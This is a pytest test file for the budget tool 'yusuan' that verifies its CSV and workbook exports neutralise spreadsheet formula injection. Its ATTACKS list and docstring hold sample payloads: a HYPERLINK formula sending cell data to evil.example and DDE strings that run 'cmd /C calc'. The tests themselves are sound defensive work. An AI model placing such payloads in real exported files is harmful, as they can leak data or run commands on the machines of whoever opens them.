"""No export carries a formula yusuan did not write: a name from a stranger's document or budget
(`=HYPERLINK(…)`, `-2+3+cmd|' /C calc'!A0`) is text in every CSV and workbook yusuan writes, a CSV field
with a leading `'` (OWASP), a workbook cell of string type; numbers stay numbers, and what yusuan reads
back is the name as it was."""

import csv
import io
import json
import zipfile
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
import yaml
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from yusuan.batch.records import document_row
from yusuan.batch.results import Journal, write_output
from yusuan.budget.io import load_budget
from yusuan.budget.model import Budget, Term
from yusuan.budget.workbook import write_workbook
from yusuan.build.document import build
from yusuan.check.engine import check
from yusuan.check.findings import Finding, Location, Report
from yusuan.cli import app
from yusuan.intake import Checked, keep
from yusuan.read import read_bytes
from yusuan.render.html import render_html
from yusuan.render.xlsx import render_xlsx
from yusuan.report.csv import render_csv
from yusuan.web.app import create_app

SMALL = Path(__file__).parent.parent / "examples" / "small-unit-budget.yaml"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
# a name a reader keeps as it is: no spaces (readers squash them), nothing that reads as a table's own words
TAIL = st.text(st.sampled_from('ABCxyz019()"&|!$,.:/?=+-@\'项目经费档案'), min_size=1, max_size=24)
names = st.builds(lambda first, rest: first + rest, st.sampled_from(FORMULA_START), TAIL)
ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "\t=1+1", "\r=1+1"]
runner = CliRunner()


def with_attacks(test):
    for name in ATTACKS:
        test = example(name=name)(test)
    return test


def number(text: str) -> bool:
    if text != text.strip() or "_" in text:  # Decimal() allows both; a spreadsheet reads text
        return False
    try:
        return Decimal(text.replace(",", "").removesuffix("%")).is_finite()
    except InvalidOperation:
        return False


def assert_no_formula_fields(rows: list[list[str]]) -> None:
    """No field a spreadsheet would take for a formula: none starts with a formula character, unless it
    is a plain number (-12.50)."""
    bad = [field for row in rows for field in row if field.startswith(FORMULA_START) and not number(field)]
    assert bad == []


def csv_text(name: str) -> str:
    """How a CSV export writes a name: behind a `'` when a spreadsheet would take it for a formula."""
    return "'" + name if name.startswith((*FORMULA_START, "'")) and not number(name) else name


def formulas(xlsx: bytes) -> list[str]:
    """Every formula cell of a workbook (the drop-down lists' sources are data validations, not cells)."""
    wb = load_workbook(io.BytesIO(xlsx))
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def named(budget: Budget, name: str) -> Budget:
    """The small unit's budget with `name` as its project's and a code's name, in the projects' texts
    and the glossary; its target weights add up to 105, so that `check` names the project in a finding."""
    budget = budget.model_copy(deep=True)
    for line in budget.lines:
        if line.project:
            line.project = name
    project = budget.projects[0]
    project.name = project.owner = project.goal = name
    project.indicators[0].weight += 5
    project.indicators[0].level3 = name
    budget.names["2012604"] = name
    budget.glossary.append(Term(term=name, definition=name))
    budget.unit.functions.append(name)
    return budget


@pytest.fixture(scope="module")
def small() -> Budget:
    return load_budget(SMALL)[0]


@with_attacks
@given(name=names)
def test_csv_report_writes_text_as_text(name: str) -> None:
    location = Location(table=name, kind=name, row=name, column=name, line=3)
    finding = Finding(id="F1", rule="r", family="f", severity="error", message=name, locations=[location],
                      stated=Decimal("-1.50"), expected=Decimal("2"), difference=Decimal("-3.50"), caused_by=name)
    rows = list(csv.reader(io.StringIO(render_csv(Report(document={}, summary={}, findings=[finding])))))
    assert_no_formula_fields(rows)
    assert rows[1] == ["F1", "r", "f", "error", *[csv_text(name)] * 5, "3", "", "-1.50", "2", "-3.50", csv_text(name)]


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@with_attacks
@given(name=names)
def test_check_csv_of_a_published_document(small: Budget, name: str, tmp_path_factory) -> None:
    path = tmp_path_factory.mktemp("doc") / "doc.html"
    path.write_text(render_html(build(named(small, name))), "utf-8")
    result = runner.invoke(app, ["check", str(path), "-f", "csv"])
    assert result.exit_code == 1, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert_no_formula_fields(rows)
    read_as = name.strip()  # a reader drops the spaces around a cell's text
    assert csv_text(read_as) in [row[7] for row in rows if row[1] == "performance.weights_total"]


@with_attacks
@given(name=names)
def test_batch_results_csv_writes_text_as_text(name: str, tmp_path_factory) -> None:
    folder = tmp_path_factory.mktemp("batch")
    journal = Journal(folder / "r.csv.journal", {"journal": "yusuan batch", "job": None, "settings": {}})
    document = document_row(name, "0" * 64, "errors", name, format="html", unit=name, year=2026, errors=1)
    finding = {"path": name, "sha256": "0" * 64, "unit": name, "year": 2026, "finding_id": "F1", "rule": "r",
               "family": "f", "severity": "error", "message": name, "table": name, "table_kind": name, "row": name,
               "column": name, "where": name, "stated": "-1.50", "difference": "-0.01", "caused_by": name}
    journal.append({"document": document, "findings": [finding]}, None)
    journal.close()
    write_output(folder / "r.csv", journal)
    rows = list(csv.DictReader((folder / "r.csv").open(encoding="utf-8", newline="")))
    assert_no_formula_fields([list(row.values()) for row in rows])
    assert rows[1]["message"] == rows[1]["row"] == rows[0]["unit"] == csv_text(name)
    assert (rows[1]["stated"], rows[1]["difference"]) == ("-1.50", "-0.01")  # money stays a number


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    return TestClient(create_app(f"sqlite:///{tmp_path_factory.mktemp('store') / 'yusuan.db'}", secret="test"))


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@with_attacks
@given(name=names)
def test_web_downloads_write_text_as_text(web: TestClient, small: Budget, name: str) -> None:
    disclosure = build(named(small, name))
    data = render_html(disclosure).encode("utf-8")
    with web.app.state.sessions.begin() as session:  # type: ignore[attr-defined]
        # the built disclosure itself, its names as given (reading the page back would trim a CR)
        version = keep(session, data, "doc.html", Checked(disclosure, check(disclosure), None)).version.id
    cells = web.get(f"/versions/{version}/download/csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(cells)))
    assert_no_formula_fields([list(row.values()) for row in rows])
    assert csv_text(name) in {row["行名称"] for row in rows}
    xlsx = web.get(f"/versions/{version}/download/xlsx").content
    assert formulas(xlsx) == []
    back = read_bytes(xlsx, "download.xlsx")
    assert name.strip() in {r.raw.get("project_name") for t in back.tables for r in t.rows}
    package = zipfile.ZipFile(io.BytesIO(web.get(f"/versions/{version}/download/datapackage").content))
    facts = list(csv.DictReader(io.StringIO(package.read("budget.csv").decode("utf-8"))))
    assert_no_formula_fields([list(row.values()) for row in facts])
    assert csv_text(name) in {row["project"] for row in facts}
    assert all(number(row["amount"]) for row in facts)
    assert json.loads(package.read("datapackage.json"))["profile"] == "fiscal-data-package"


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@with_attacks
@given(name=names)
def test_built_and_budget_workbooks_write_text_as_text(small: Budget, name: str, tmp_path_factory) -> None:
    """`yusuan build` from YAML, `yusuan extract` of what it built into a budget workbook, and that
    workbook built again: no formula anywhere, the name read back at each step."""
    folder = tmp_path_factory.mktemp("build")
    budget = folder / "budget.yaml"
    budget.write_text(yaml.safe_dump(named(small, name).model_dump(mode="json"), allow_unicode=True), "utf-8")
    result = runner.invoke(app, ["build", str(budget), "-o", str(folder / "out"), "-f", "xlsx"])
    assert result.exit_code in (0, 1), result.output  # 1: built, and its own check names a mistake (weights)
    built = next((folder / "out").iterdir())
    assert formulas(built.read_bytes()) == []
    result = runner.invoke(app, ["extract", str(built), "-o", str(folder / "again.xlsx")])
    assert result.exit_code == 0, result.output
    assert formulas((folder / "again.xlsx").read_bytes()) == []
    again, _ = load_budget(folder / "again.xlsx")
    assert {line.project for line in again.lines} >= {name.strip()}
    assert again.names["2012604"] == name.strip()


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@with_attacks
@given(name=names)
def test_budget_workbook_reads_back_every_text(small: Budget, name: str, tmp_path_factory) -> None:
    budget = named(small, name)
    data = write_workbook(budget)
    assert formulas(data) == []
    path = tmp_path_factory.mktemp("workbook") / "budget.xlsx"
    path.write_bytes(data)
    back, _ = load_budget(path)
    read_as = name.strip()  # the workbook's reader drops the spaces around what was typed
    assert back.projects[0].name == back.projects[0].goal == back.projects[0].indicators[0].level3 == read_as
    assert back.glossary[-1].term == back.unit.functions[-1] == read_as
    assert formulas(render_xlsx(build(back))) == []


def test_the_empty_template_has_no_formula() -> None:
    assert formulas(write_workbook(None, 2026)) == []
